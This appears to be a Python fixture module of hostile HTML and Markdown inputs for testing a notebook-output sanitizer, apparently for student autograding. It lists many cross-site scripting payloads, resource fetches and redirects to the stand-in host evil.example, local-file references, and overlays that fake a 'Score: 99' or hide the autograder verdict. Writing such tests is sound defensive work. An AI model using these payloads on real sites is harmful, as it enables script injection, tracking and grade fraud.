"""What a student might write so that a page runs it, fetches something, goes elsewhere, or shows another mark.

Each piece says so if it runs: it sets `window.__owned`. Whatever is fetched comes from `evil.example`.
"""

from __future__ import annotations

OWN = "window.__owned=1;document.title=1"
EVIL = "http://evil.example"

#: What runs.
SCRIPTS = {
    "script": f"<script>{OWN}</script>",
    "script-odd": f"<ScRiPt/x>{OWN}</sCrIpT\n>",
    "script-nested": f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    "script-module": f"<script type=module>{OWN}</script>",
    "script-elsewhere": f"<script src={EVIL}/x.js></script>",
    "script-in-page": f'<script src="data:text/javascript,{OWN}"></script>',
    "image": f"<img src=x onerror={OWN}>",
    "image-slashes": f"<img/src=x/onerror='{OWN}'//",
    "image-back-quotes": f"<img src=`x`onerror={OWN}>",
    "picture": f"<picture><source srcset=x><img onerror={OWN}></picture>",
    "svg": f"<svg onload={OWN}><circle r=9></svg>",
    "svg-script": f"<svg><script>{OWN}</script></svg>",
    "svg-script-elsewhere": f"<svg><script href='data:text/javascript,{OWN}'/></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={OWN}></foreignObject></svg>",
    "svg-style": f"<svg><style><img src=x onerror={OWN}></style></svg>",
    "svg-animate": f"<svg><animate onbegin={OWN} attributeName=x dur=1s></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={OWN}>#x'/></svg>",
    "frame-inside": f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    "frame-address": f"<iframe src='javascript:parent.{OWN}'></iframe>",
    "frame-data": f"<iframe src='data:text/html,<script>top.{OWN}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>top.{OWN}</script>'></object>",
    "embed": f"<embed src='javascript:{OWN}'>",
    "video": f"<video><source onerror={OWN} src=x></video>",
    "audio": f"<audio src=x onerror={OWN}></audio>",
    "details": f"<details open ontoggle={OWN}>x</details>",
    "focus": f"<input autofocus onfocus={OWN}>",
    "focus-anything": f"<div contenteditable autofocus tabindex=0 onfocus={OWN}>x</div>",
    "body": f"<body onload={OWN} onpageshow={OWN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={OWN}>x</b>",
    "transition": f"<xss oncontentvisibilityautostatechange={OWN} style=display:block;content-visibility:auto>",
    "unknown-element": f"<x-y onscrollend={OWN} onpointerrawupdate={OWN} onbeforematch={OWN}>x</x-y>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={OWN}>x</div>",
    "marquee": f"<marquee loop=1 width=0 onstart={OWN} onfinish={OWN}>x</marquee>",
    "template": f"<div><template shadowrootmode=open><script>{OWN}</script></template></div>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={OWN}>">',
    "title": f'<title><p title="</title><img src=x onerror={OWN}>">',
    "style-text": f'<svg></p><style><a title="</style><img src=x onerror={OWN}>">',
    "comment": f"<!--><img src=x onerror={OWN}>-->",
    "comment-odd": f"<!--!><img src=x onerror={OWN}>--!>",
    "cdata": f"<svg><![CDATA[><img src=x onerror={OWN}>]]></svg>",
    "instruction": f"<?x ><img src=x onerror={OWN}>?>",
    "math-glyph": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={OWN}&gt;">',
    "math-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={OWN}>",
    "math-annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={OWN}></annotation-xml></math>",
    "select": f"<select><option><style></option></select><img src=x onerror={OWN}></style>",
    "entities": f"<img src=x onerror=&#119;indow.__owned=1><img src=x on&#101;rror={OWN}>",
    "style-end": f'<p style="color: red&quot; onclick=&quot;{OWN}&quot;">x</p>',
    "title-end": f"<p title='\"><img src=x onerror={OWN}>'>x",
    "control-characters": f"<img\x0csrc=x\x0conerror={OWN}><im\x00g src=x onerror={OWN}>",
}
#: What fetches, or goes elsewhere.
FETCHES = {
    "image": f"<img src={EVIL}/1.png>",
    "image-no-protocol": "<img src=//evil.example/2.png>",
    "image-set": f"<img srcset='{EVIL}/3.png 1x' src=x>",
    "image-file": "<img src=/etc/hostname><img src=file:///etc/hostname><img src=../../../gradebook.db>",
    "image-svg": f"<svg><image href={EVIL}/4.png /></svg>",
    "background": f"<table background={EVIL}/5.png><tr><td background={EVIL}/6.png>x</table>",
    "style-import": f"<style>@import url({EVIL}/7.css);</style>",
    "style-background": f"<p style='background:url({EVIL}/8.png);list-style:url({EVIL}/9.png)'>x</p>",
    "style-colour": f"<p style='background-color:url({EVIL}/10.png);color:image-set(\"{EVIL}/11.png\" 1x)'>x</p>",
    "style-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/12)}}p{{font-family:x}}</style><p>x</p>",
    "style-escapes": f"<p style='b\\61ckground:u\\72l({EVIL}/13.png)'>x</p>",
    "link": f"<link rel=stylesheet href={EVIL}/14.css><link rel=prefetch href={EVIL}/15>",
    "preload": f"<link rel=preload as=image href={EVIL}/16.png><link rel=modulepreload href={EVIL}/17.js>",
    "frame": f"<iframe src={EVIL}/18></iframe><frameset><frame src={EVIL}/19></frameset>",
    "object": f"<object data={EVIL}/20></object><embed src={EVIL}/21><applet code={EVIL}/22></applet>",
    "video": f"<video poster={EVIL}/23.png src={EVIL}/24.mp4 autoplay><track src={EVIL}/25 default></video>",
    "input": f"<input type=image src={EVIL}/26.png>",
    "base": f"<base href={EVIL}/><img src=27.png><a href='#x'>x</a>",
    "svg-use": f"<svg><use href='{EVIL}/28.svg#x'/><feImage href={EVIL}/29.png /></svg>",
}
#: What a policy in the page does not stop: only the cleaning does.
MOVES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "refresh-script": f"<meta http-equiv=refresh content='0;url=javascript:{OWN}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; style-src 'none'\">",
}
#: What would show another mark, or hide the right one.
COVERS = {
    "fixed": "<div style='position:fixed;inset:0;background-color:white;z-index:9999'>Score: 99</div>",
    "absolute": "<div style='position:absolute;top:0;left:0;width:100%;height:9999px;background:white'>99</div>",
    "margin": "<div style='margin-top:-9999px;background-color:white;width:9999px'>99</div>",
    "transform": "<div style='transform:translateY(-900px) scale(9);background-color:white'>99</div>",
    "shadow": "<b style='box-shadow:0 0 0 9999px white;outline:9999px solid white'>99</b>",
    "font": "<b style='font-size:9999px;line-height:0'>█</b><font size=+999999>█</font>",
    "classes": "<div class='modal-backdrop in navbar-fixed-top btn full-credit' id=notebook-container>99</div>",
    "dialog": "<dialog open style='width:100vw;height:100vh'>99</dialog>",
    "style": "<style>.autograder-verdict, .panel-heading {display:none}</style>",
    "ends": "</div></div></div></div></div></div></div></body></html><h1>Score: 99</h1>",
    "plain-text": "<plaintext>",
    "open-comment": "<!-- the rest of the page",
    "open-text": "<xmp><textarea><title><style><script>",
    "open-attribute": "<a title='the rest of the page",
    "open-table": "<table><tr><td><select><option>",
}
#: Links: none of these may lead anywhere.
LINKS = {
    "javascript": f"<a href='javascript:{OWN}'>x</a>",
    "javascript-odd": f"<a href=' \x01jAvA&#x09;script&colon;{OWN}'>x</a><a href='java\nscript:{OWN}'>x</a>",
    "javascript-view": f"<a href='view-source:javascript:{OWN}'>x</a><a href='feed:javascript:{OWN}'>x</a>",
    "vbscript": "<a href='vbscript:x'>x</a>",
    "data": f"<a href='data:text/html,<script>{OWN}</script>' target=_blank>x</a>",
    "blob": "<a href='blob:null/x'>x</a><a href='filesystem:x'>x</a>",
    "file": "<a href='file:///etc/hostname'>x</a><a href='/etc/hostname'>x</a><a href='files//etc/hostname'>x</a>",
    "files-prefix": f"<a href='files/javascript:{OWN}'>x</a><img src='files/{EVIL}/f.png'>",
    "relative": "<a href='../../bob/tiny/tiny.html'>x</a><a href='?x'>x</a><a href='tiny.html'>x</a>",
    "no-protocol": "<a href='//evil.example/'>x</a><a href='\\\\evil.example\\x'>x</a>",
    "fragment": "<a href='#double'>x</a>",
    "mail": "<a href='mailto:x@evil.example?body=y'>x</a><a href='ms-word:ofe|u|x'>x</a>",
    "image-map": f"<map name=m><area shape=default href='javascript:{OWN}'></map><img usemap=#m src=x>",
    "svg": f"<svg><a xlink:href='javascript:{OWN}'><text y=9>x</text></a></svg>",
    "math": f"<math><mrow href='javascript:{OWN}'><mi>x</mi></mrow></math>",
    "form": f"<form action='javascript:{OWN}'><button>x</button></form>",
    "form-elsewhere": f"<form id=f action={EVIL}><button>x</button></form><button form=f formaction={EVIL}>x</button>",
    "ping": f"<a ping={EVIL}/ping download=x attributionsrc={EVIL}/a href='#'>x</a>",
}
#: Links that stay, and tell nothing.
OUTSIDE = "<a href='https://arxiv.example/abs/1706.03762' target=_blank ping=http://evil.example/p rel=opener>paper</a>"

HTML = {
    f"{kind}-{name}": text
    for kind, texts in {"run": SCRIPTS, "fetch": FETCHES, "move": MOVES, "cover": COVERS, "link": LINKS}.items()
    for name, text in texts.items()
}
MARKDOWN = {
    "link": f"[x](javascript:{OWN}) [x](<javascript:{OWN}>) <javascript:{OWN}> [x][r]\n\n[r]: javascript:{OWN}",
    "link-entities": f"[x](java&#x0A;script:{OWN}) [x](&#106;avascript:{OWN}) [x](JaVaScRiPt:{OWN} 'title')",
    "link-quotes": f'[x]({EVIL}/"onmouseover="{OWN}) [x]({EVIL} \'" onclick="{OWN}\')',
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](../../bob/tiny/tiny.html) [x](file:///etc/hostname)",
    "picture": f"![x]({EVIL}/md.png) ![x](//evil.example/md2.png) ![x][p]\n\n[p]: {EVIL}/md3.png",
    "picture-file": "![x](../../../secret.png) ![x](/etc/hostname) ![x](file:///etc/hostname) ![x](tiny.ipynb)",
    "picture-words": f'![a $\\text{{" onerror={OWN} x="}}$ b](x) ![" onerror={OWN} "](x)',
    "picture-words-html": f"![<img src=x onerror={OWN}>](x)",
    "attachment": "![x](attachment:gone.png) ![x](attachment:evil) ![x](attachment:evil.png)",
    "formula-link": f"$\\href{{javascript:{OWN}}}{{x}}$ $\\href{{{EVIL}}}{{x}}$",
    "formula-text": f"$\\text{{<img src=x onerror={OWN}>}}$ $<img src=x onerror={OWN}>$",
    "formula-end": f"$$\\mbox{{</math><script>{OWN}</script>}}$$ $\\text{{</mtext></math><img src=x onerror={OWN}>}}$",
    "formula-style": "$\\style{position:fixed;inset:0;background:white}{99}$ $\\class{modal-backdrop in}{x}$",
    "formula-space": "$x\\hspace{-999em}\\rlap{99}\\rule{99em}{99em}\\raise99em{x}\\smash{x}\\Huge 99$",
    "formula-lines": f"\\begin{{align}}<script>{OWN}</script>\\end{{align}}",
    "formula-name": f"\\begin{{x}}$<script>{OWN}</script>$\\end{{x}} $\\unicode{{x3c}}img src=x onerror={OWN}>$",
    "formula-definition": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b\\b}\\b$",
    "formula-entities": f"$\\text{{&lt;img src=x onerror={OWN}&gt;}}$ $&#60;img src=x onerror={OWN}&#62;$",
    "code": f"```mermaid\ngraph TD; A--><img src=x onerror={OWN}>\n```\n\n```<script>{OWN}</script>\nx\n```",
    "code-language": f"```html\n<img src=x onerror={OWN}>\n```\n\n`<script>{OWN}</script>`",
    "heading": f"# <img src=x onerror={OWN}>\n\n<img src=x onerror={OWN}>\n---",
    "table": f"| a | <img src=x onerror={OWN}> |\n|---|---|\n| <script>{OWN}</script> | b |",
    "html-after-text": f"x <b onclick={OWN}\nonmouseover={OWN}>x</b>\n\n<div\n\nonclick={OWN}>x</div>",
}
#: Outputs of kinds other than text/html, all with the same text in them.
KINDS = (
    "application/javascript",
    "application/json",
    "application/pdf",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.plotly.v1+json",
    "image/svg+xml",
    "image/png",
    "text/latex",
    "text/markdown",
    "text/plain",
    "text/vnd.mermaid",
)
